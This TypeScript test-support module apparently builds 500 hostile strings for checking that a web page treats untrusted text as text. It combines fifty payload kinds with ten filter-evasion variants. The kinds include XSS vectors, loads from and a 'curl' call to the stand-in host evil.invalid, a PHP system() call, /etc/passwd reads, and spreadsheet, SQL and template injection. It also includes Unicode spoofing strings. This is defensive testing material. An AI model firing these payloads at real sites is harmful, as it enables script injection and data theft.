import { partsInTurn } from '../support/turn.ts'

/** A server that nobody has: whatever asks for it was made to by a text. */
const EVIL = 'https://evil.invalid'
/** On every element that a text could make, so that one of them is found. */
export const MARK = 'data-hostile'
/** What a script of a text leaves in the window. */
export const TRACE = 'hostile'

const run = (n: number): string => `window.${TRACE}=${n};alert(${n})`

/** What people and machines have sent to pages like ours, each with its number. */
const kinds: readonly ((n: number) => string)[] = [
  (n) => `<script ${MARK}>${run(n)}</script>`,
  (n) => `<script ${MARK} src="${EVIL}/${n}.js"></script>`,
  (n) => `</script></title></textarea></style><script ${MARK}>${run(n)}</script>`,
  (n) => `<img ${MARK} src=x onerror="${run(n)}">`,
  (n) => `"><img ${MARK} src="${EVIL}/${n}.png">`,
  (n) => `'><img ${MARK} srcset='${EVIL}/${n}.png 1x'>`,
  (n) => `<svg ${MARK} onload="${run(n)}"><script>${run(n)}</script></svg>`,
  (n) => `<svg ${MARK}><foreignObject><img src="${EVIL}/${n}"></foreignObject><use href="${EVIL}/${n}#x"/></svg>`,
  (n) => `<math ${MARK}><mtext><table><mglyph><style><img src=x onerror="${run(n)}">`,
  (n) => `<iframe ${MARK} srcdoc="<script>parent.${TRACE}=${n}</script>"></iframe>`,
  (n) => `<iframe ${MARK} src="${EVIL}/${n}"></iframe>`,
  (n) => `<object ${MARK} data="${EVIL}/${n}"></object><embed ${MARK} src="${EVIL}/${n}">`,
  (n) => `<video ${MARK} autoplay><source src=x onerror="${run(n)}"></video>`,
  (n) => `<details ${MARK} open ontoggle="${run(n)}"><summary>${n}</summary></details>`,
  (n) => `<input ${MARK} autofocus onfocus="${run(n)}">`,
  (n) => `<form ${MARK} action="${EVIL}/${n}"><button>Approve</button></form>`,
  (n) => `<a ${MARK} href="javascript:${run(n)}">Approve ${n}</a>`,
  (n) => `<base ${MARK} href="${EVIL}/${n}/">`,
  (n) => `<meta ${MARK} http-equiv="refresh" content="0;url=${EVIL}/${n}">`,
  (n) => `<link ${MARK} rel="stylesheet" href="${EVIL}/${n}.css">`,
  (n) => `<style ${MARK}>@import url(${EVIL}/${n}.css); main{display:none}</style>`,
  (n) => `<div ${MARK} style="position:fixed;inset:0;background:url(${EVIL}/${n})">covered</div>`,
  (n) => `<template ${MARK}><script>${run(n)}</script></template><slot ${MARK}>`,
  (n) => `<dialog ${MARK} open>Your session is over ${n}</dialog>`,
  (n) => `<body ${MARK} onpageshow="${run(n)}"><marquee ${MARK} onstart="${run(n)}">`,
  (n) => `" onmouseover="${run(n)}" autofocus onfocus="${run(n)}" ${MARK}="`,
  (n) => `' style='background:url(${EVIL}/${n})' ${MARK}='`,
  (n) => `javascript:${run(n)}//`,
  (n) => `data:text/html,<script>${run(n)}</script>`,
  (n) => `${EVIL}/${n} //evil.invalid/${n} file:///etc/passwd#${n}`,
  (n) => `[approve](javascript:${run(n)}) ![x](${EVIL}/${n}.png) <${EVIL}/${n}>`,
  (n) => `\`\`\`html\n<script ${MARK}>${run(n)}</script>\n\`\`\` ${n}`,
  (n) => `{{constructor.constructor('${run(n)}')()}} \${${run(n)}} #{${n}*7} <%= ${n}*7 %>`,
  (n) => `<!--#exec cmd="curl ${EVIL}/${n}"--><!--#include virtual="/etc/passwd"-->`,
  (n) => `<esi:include src="${EVIL}/${n}"/><?php system('id ${n}') ?><![CDATA[<script>${run(n)}</script>]]>`,
  (n) => `=cmd|' /C calc'!A${n} @SUM(1+${n}) +HYPERLINK("${EVIL}/${n}")`,
  (n) => `'; DROP TABLE incident; -- ${n} %00 ../../../etc/passwd`,
  (n) =>
    `%3Cscript%3E${run(n)}%3C/script%3E &lt;script&gt;${n}&lt;/script&gt; &#60;img src=x&#62; \\u003cscript\\u003e`,
  (n) => `{"__html":"<img ${MARK} src=x>","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${n}"}}}`,
  (n) => `__proto__ constructor toString ${n}`,
  (n) => `approved \u202Egnp.exe\u202C ${n}`,
  (n) => `\u2066admin\u2069 \u200Fright\u200E to left ${n}`,
  (n) => `deploy\u200B-\u200Dbot\uFEFF\u00AD ${n}`,
  (n) => `\u0007\u001B[31mred\u001B[0m\u0008\u0085\u009B ${n}`,
  (n) => `раураӏ аdmin ＡＰＰＲＯＶＥ ${n}`,
  (n) => `\u{E0041}\u{E0042}\uE000\u2028\u2029 ${n}`,
  (n) => `שלום עולם مرحبا ${n} العالم`,
  (n) => `e${'\u0301\u0323\u0335'.repeat(30)} ${n}`,
  (n) => `${'W'.repeat(3000)}${n}`,
  (n) => `${'<b>'.repeat(500)}${n}`,
]

const TURNS = 10

/** Each kind as it is, and in the dresses in which filters let it pass. */
const dresses: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => ` \n\t${text}\n`,
  (text) => text.replaceAll('<', '<\t'),
  (text) => text.replaceAll('>', ' />'),
  (text) => text.replaceAll('"', '`'),
  (text) => text.replaceAll('<', '<<'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll('<', '</p><'),
  (text) => `-->]]>*/'"});${text}`,
]

/** 500 texts that try to be more than text, each another one. */
export const hostileTexts: readonly string[] = Array.from({ length: kinds.length * TURNS }, (_, n) => {
  const kind = kinds[n % kinds.length]
  const dress = dresses[Math.floor(n / kinds.length)]
  if (kind === undefined || dress === undefined) throw new TypeError(`There is no text ${n}`)
  return dress(kind(n))
})

const pairs = Array.from({ length: TURNS / 2 }, (_, dress) => dress)

/** Every kind in two of its ten dresses, which are others in the next turn; at night all of them. */
export const textsInTurn: readonly string[] = hostileTexts.filter((_text, n) => {
  const dress = Math.floor(n / kinds.length)
  return partsInTurn(pairs, n % kinds.length).includes(dress % pairs.length)
})
